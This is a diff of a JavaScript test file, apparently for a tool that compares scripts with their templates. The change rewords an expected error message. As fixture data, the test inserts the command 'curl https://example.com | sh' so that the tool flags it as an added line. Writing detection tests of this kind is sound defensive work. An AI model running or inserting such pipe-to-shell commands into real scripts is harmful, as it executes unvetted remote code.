@@ -139,7 +139,7 @@ describe('the rules of nodes', () => {
       'a line that somebody added',
       scriptsAsTemplates,
       withFile(apply, "begin 'system'\n", "begin 'system'\ncurl https://example.com | sh\n"),
-      "has a line that its template does not have: 'curl https://example.com | sh'",
+      "has a line that is not in its template: 'curl https://example.com | sh'",
     ],
     [
       'a line that somebody took away',
